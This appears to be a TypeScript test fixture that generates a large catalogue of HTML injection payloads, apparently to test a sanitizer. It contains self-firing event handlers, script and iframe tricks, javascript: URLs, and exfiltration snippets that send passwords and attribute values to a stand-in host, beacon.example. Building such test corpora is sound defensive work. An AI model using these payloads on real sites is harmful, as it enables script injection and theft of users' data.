// Each calls `hostile()` if it runs, or asks something of beacon.example.

/** Elements that load, play, open or move by themselves, with what starts a handler of theirs. */
const selfStarting: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ['img', 'src=nothing', 'error'],
  ['img', 'srcset="nothing 2x" sizes=1px', 'error'],
  ['image', 'href=nothing', 'error'],
  ['body', '', 'load'],
  ['body', '', 'pageshow'],
  ['frameset', '', 'load'],
  ['iframe', 'src=about:blank', 'load'],
  ['object', 'data=nothing', 'error'],
  ['embed', 'src=nothing', 'error'],
  ['video', 'src=nothing', 'error'],
  ['audio', 'src=nothing preload=auto', 'error'],
  ['track', 'src=nothing default', 'error'],
  ['link', 'rel=stylesheet href=nothing.css', 'error'],
  ['style', '', 'load'],
  ['script', 'src=nothing.js', 'error'],
  ['input', 'type=image src=nothing', 'error'],
  ['input', 'autofocus', 'focus'],
  ['select', 'autofocus', 'focusin'],
  ['textarea', 'autofocus', 'focus'],
  ['button', 'autofocus', 'focus'],
  ['div', 'tabindex=0 autofocus contenteditable', 'focus'],
  ['a', 'href=# autofocus', 'focus'],
  ['details', 'open', 'toggle'],
  ['dialog', 'open', 'focusin'],
  ['div', 'popover=manual', 'beforetoggle'],
  ['p', 'style="animation:shop-spin 1ms"', 'animationstart'],
  ['p', 'style="transition:color 1ms"', 'transitionrun'],
  ['p', 'style="overflow:scroll;height:1px"', 'scroll'],
  ['p', 'hidden=until-found', 'beforematch'],
  ['p', 'style="content-visibility:auto"', 'contentvisibilityautostatechange'],
  ['marquee', 'loop=1 width=1', 'start'],
  ['svg', '', 'load'],
  ['form', '', 'formdata'],
  ['x-any', 'tabindex=0', 'focusin'],
];

/** How an attribute may stand in a tag. */
const spellings: readonly ((tag: string, attributes: string, handler: string) => string)[] = [
  (tag, attributes, handler) => `<${tag} ${attributes} ${handler}="hostile()">inside</${tag}>`,
  (tag, attributes, handler) =>
    `<${tag.toUpperCase()}/${attributes.replaceAll(' ', '/')}/${handler.toUpperCase()}=hostile()>`,
  (tag, attributes, handler) => `<${tag}\f${attributes}\n${handler}\t=\r'hostile()' ${handler}=second`,
];

const handled = selfStarting.flatMap(([tag, attributes, event]) =>
  spellings.map((spell) => spell(tag, attributes, `on${event}`)),
);

/** Handlers that wait for a press, which the suite gives to every element. */
const pressed = ['click', 'mousedown', 'pointerdown', 'mouseup', 'auxclick', 'keydown'].flatMap((event) => [
  `<p on${event}=hostile()>press</p>`,
  `<table><tbody on${event}=hostile()><tr><td>press</table>`,
  `<summary on${event}=hostile()>press</summary>`,
]);

const types = [
  '',
  ' type=module',
  ' type="text/javascript"',
  ' language=javascript',
  ' async defer',
  ' nomodule',
];
const scripts = types.flatMap((type) => [
  `<script${type}>hostile()</script>`,
  `<script${type} src="https://beacon.example/code.js"></script>`,
  `<svg><script${type}>hostile()</script></svg>`,
]);

const wholes: readonly string[] = [
  '<script type=importmap>{"imports":{"react":"https://beacon.example/react.js"}}</script>',
  '<script type=speculationrules>{"prerender":[{"urls":["https://beacon.example/p"]}]}</script>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.hostile()&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<template shadowrootmode=open><img src=nothing onerror=hostile()></template>',
  '<template><script>hostile()</script><template><script>hostile()</script></template></template>',
  '<meta http-equiv=refresh content="0;url=https://beacon.example/away">',
  '<meta http-equiv=Refresh content="0,javascript:hostile()">',
  '<meta http-equiv=content-security-policy content="default-src *">',
  '<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content="a=b">',
  '<base href="https://beacon.example/"><a href=x>press</a>',
  '<base target=_top href="javascript:/hostile()/">',
  '<form action="https://beacon.example/take"><input name=password type=password><button>press</button></form>',
  '<form id=far action="/"></form><button form=far formaction="javascript:hostile()">press</button>',
  '<input type=submit formaction="https://beacon.example/take" formmethod=post value=press>',
  '<link rel=stylesheet href="https://beacon.example/a.css"><link rel=preload as=script href="https://beacon.example/a.js">',
  '<link rel=dns-prefetch href="//beacon.example"><link rel=preconnect href="https://beacon.example">',
  '<link rel=manifest href="https://beacon.example/m.json"><link rel=icon href="https://beacon.example/i">',
  '<style>@import url(https://beacon.example/a.css); #shop { display: none }</style>',
  '<style>input[value^=a] { background: url(https://beacon.example/a) }</style>',
  '<style>:host, body { visibility: hidden !important }</style>',
  '<p style="background:url(https://beacon.example/a)">styled</p>',
  '<p style="position:fixed;inset:0;z-index:2147483647;background:#fff">covers</p>',
  '<p style="--shop-act:url(https://beacon.example/a);cursor:url(https://beacon.example/c),auto">styled</p>',
  '<svg><set attributeName=href to="javascript:hostile()" /><a id=q><text y=9>press</text></a></svg>',
  '<svg><animate attributeName=onload values=hostile() /></svg>',
  '<svg><use href="https://beacon.example/a.svg#a"></use><image href="https://beacon.example/a" /></svg>',
  '<svg><feImage href="https://beacon.example/a" /><a xlink:href="javascript:hostile()"><rect width=9 height=9 /></a></svg>',
  '<svg><foreignObject><iframe src="javascript:parent.hostile()"></iframe></foreignObject></svg>',
  '<math><mrow href="javascript:hostile()"><mtext>press</mtext></mrow></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=nothing onerror=hostile()></annotation-xml></semantics></math>',
  '<object type="text/html" data="https://beacon.example/o"><param name=movie value="javascript:hostile()"></object>',
  '<video poster="https://beacon.example/p"><source src="https://beacon.example/v"></video>',
  '<a href="/faq" ping="https://beacon.example/ping">press</a>',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hostile()'/>\">",
  '<button popovertarget=p popovertargetaction=show command=show-modal commandfor=p>press</button><div id=p popover onclick=hostile()>p</div>',
  '<p slot=page part="page" is="shop-menu" data-formatted data-hydrated data-path="javascript:hostile()">attributes of the shop</p>',
  '<shop-menu api-base="https://beacon.example/api" tenant=7></shop-menu>',
  '<shop-account api-base="https://beacon.example/api" open=page></shop-account>',
  '<portal src="https://beacon.example/"></portal><fencedframe src="https://beacon.example/"></fencedframe>',
];

export const markup: readonly string[] = [...handled, ...pressed, ...scripts, ...wholes];
